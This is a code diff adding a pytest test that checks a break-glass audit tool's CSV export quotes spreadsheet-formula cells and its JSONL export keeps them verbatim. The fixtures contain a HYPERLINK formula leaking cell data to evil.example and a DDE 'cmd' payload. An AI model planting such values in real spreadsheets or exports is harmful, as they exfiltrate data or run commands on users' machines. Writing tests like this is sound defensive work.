@@ -361,3 +361,43 @@ def test_create_table_dynamodb(moto_dynamodb: tuple[Any, str], capsys: pytest.Ca
         assert "TTL on `ttl` already enabled" in out
     finally:
         client.delete_table(TableName=table)
+
+
+def test_export_csv_neutralises_formulas_and_jsonl_stays_exact(
+    backend: Backend, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    """Issue 12.5: cells that a spreadsheet would run (=, +, -, @, tab, CR first) get a leading quote."""
+    texts = {
+        "justification": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
+        "incident": "+cmd|' /C calc'!A0",
+    }
+    event = backend.store.create(
+        make_event(now=T0, invoker="\tmallory@example.com", request_id="\r=1+1", **texts)
+    )
+    closed = backend.store.close(event.id, by="@here", reason="-2+3 and the rest", now=T0 + HOUR)
+    backend.store.save(
+        closed.updated(reviewed_by="U0SEC", reviewed_at=T0 + 2 * HOUR, review_notes="\tlooks fine\r")
+    )
+    code, out, err = run(capsys, "--store", backend.url, "export", "--since", "2026-03-01", "--format", "csv")
+    assert code == 0, err
+    (row,) = [
+        dict(zip(admin.EXPORT_COLUMNS, r, strict=True))
+        for r in list(csv.reader(io.StringIO(out, newline="")))[1:]
+    ]
+    assert row["justification"] == "'" + texts["justification"]
+    assert row["incident"] == "'" + texts["incident"]
+    assert row["closed_by"] == "'@here"
+    assert row["closed_reason"] == "'-2+3 and the rest"
+    assert row["review_notes"] == "looks fine"  # stored stripped: nothing to neutralise
+    assert (row["invoker"], row["request_id"]) == ("'\tmallory@example.com", "'\r=1+1")
+    assert row["profile"] == "prod-admin" and row["source"] == "breakglass"
+
+    target = tmp_path / "audit.jsonl"
+    args = ("export", "--since", "2026-03-01", "--format", "jsonl", "--output", str(target))
+    code, _, err = run(capsys, "--store", backend.url, *args)
+    assert code == 0, err
+    (record,) = [json.loads(line) for line in target.read_text().splitlines()]
+    assert record["justification"] == texts["justification"]
+    assert record["incident"] == texts["incident"]
+    assert (record["closed_by"], record["closed_reason"]) == ("@here", "-2+3 and the rest")
+    assert (record["invoker"], record["request_id"]) == ("\tmallory@example.com", "\r=1+1")
